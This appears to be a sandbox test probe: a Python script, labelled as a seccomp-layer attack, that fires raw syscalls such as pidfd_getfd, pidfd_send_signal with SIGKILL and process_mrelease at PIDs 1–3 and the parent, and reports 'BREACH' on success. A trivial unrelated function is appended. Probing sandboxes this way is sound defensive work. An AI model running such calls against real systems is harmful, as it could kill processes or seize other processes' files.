# attack: take hold of other processes by descriptors, and their open files through them
# layer: seccomp
# outcome: ok
# score: 2
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for pid in (1, 2, 3, os.getppid()):
    for name, number, arguments in (
        ("pidfd_open", 434, (pid, 0)),
        ("pidfd_getfd", 438, (pid, 3, 0)),
        ("pidfd_send_signal", 424, (pid, 9, None, 0)),
        ("kcmp", 312, (1, pid, 2, 0, 0)),
        ("process_madvise", 440, (pid, None, 0, 20, 0)),
        ("process_mrelease", 448, (pid, 0)),
        ("move_pages", 279, (pid, 0, None, None, None, 0)),
        ("migrate_pages", 256, (pid, 0, None, None)),
        ("get_robust_list of others", 274, (2, None, None)),
    ):
        if libc.syscall(number, *arguments) >= 0:
            os.write(1, f"BREACH {name} of {pid}".encode())


def double(x):
    return x * 2
